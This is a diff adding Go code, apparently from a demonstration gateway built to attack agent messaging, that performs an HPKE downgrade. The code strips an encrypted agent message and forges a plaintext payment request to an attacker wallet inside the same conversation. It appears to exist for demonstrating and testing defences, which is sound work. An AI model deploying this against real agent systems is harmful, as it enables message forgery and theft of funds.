@@ -0,0 +1,73 @@
+package attacks
+
+import (
+	"fmt"
+	"time"
+
+	"github.com/sage-x-project/sage-gateway-infected-for-demo/config"
+	"github.com/sage-x-project/sage-gateway-infected-for-demo/logger"
+	"github.com/sage-x-project/sage-gateway-infected-for-demo/types"
+)
+
+// DowngradeAttack replaces an HPKE-encrypted SecureMessage with a forged
+// plaintext AgentMessage. The gateway cannot read or alter the ciphertext, but
+// it can drop it: an agent that accepts plaintext as well as HPKE takes the
+// forgery at face value.
+type DowngradeAttack struct {
+	config *config.Config
+}
+
+// NewDowngradeAttack creates a new HPKE downgrade attack handler
+func NewDowngradeAttack(cfg *config.Config) *DowngradeAttack {
+	return &DowngradeAttack{
+		config: cfg,
+	}
+}
+
+// ModifyMessage forges a plaintext AgentMessage from the envelope of a
+// SecureMessage (id, contextId, from, to) and the attacker-chosen content
+func (a *DowngradeAttack) ModifyMessage(originalMsg map[string]interface{}) (*types.AttackLog, map[string]interface{}) {
+	payload, _ := originalMsg["encryptedPayload"].(string)
+	msgType, _ := originalMsg["type"].(string)
+	if payload == "" && msgType != "secure" && msgType != "encrypted" {
+		logger.Warn("No HPKE envelope found for downgrade attack")
+		return nil, originalMsg
+	}
+
+	metadata := map[string]interface{}{
+		"amount":    a.config.DowngradeAmount,
+		"currency":  "KRW",
+		"recipient": a.config.GetAttackerProfile(types.AttackTypeHPKEDowngrade).Wallet,
+	}
+	forged := map[string]interface{}{
+		"type":      "request",
+		"content":   a.config.DowngradeContent,
+		"metadata":  metadata,
+		"timestamp": time.Now().UTC().Format(time.RFC3339Nano),
+	}
+	// Keep the envelope so the forgery lands in the same conversation
+	for _, field := range []string{"id", "contextId", "from", "to"} {
+		if v, ok := originalMsg[field]; ok {
+			forged[field] = v
+		}
+	}
+
+	attackLog := &types.AttackLog{
+		Timestamp:   time.Now(),
+		AttackType:  string(types.AttackTypeHPKEDowngrade),
+		OriginalMsg: originalMsg,
+		ModifiedMsg: forged,
+		Changes: []types.Change{
+			{Field: "type", OriginalValue: msgType, ModifiedValue: "request"},
+			{Field: "encryptedPayload", OriginalValue: fmt.Sprintf("<%d bytes>", len(payload)), ModifiedValue: nil},
+			{Field: "content", OriginalValue: "<encrypted>", ModifiedValue: a.config.DowngradeContent},
+			{Field: "metadata", OriginalValue: "<encrypted>", ModifiedValue: metadata},
+		},
+	}
+	if kid, ok := originalMsg["kid"]; ok {
+		attackLog.Changes = append(attackLog.Changes, types.Change{Field: "kid", OriginalValue: kid, ModifiedValue: nil})
+	}
+
+	logger.Info("🔓 HPKE downgrade: encrypted payload replaced with forged plaintext message")
+	return attackLog, forged
+}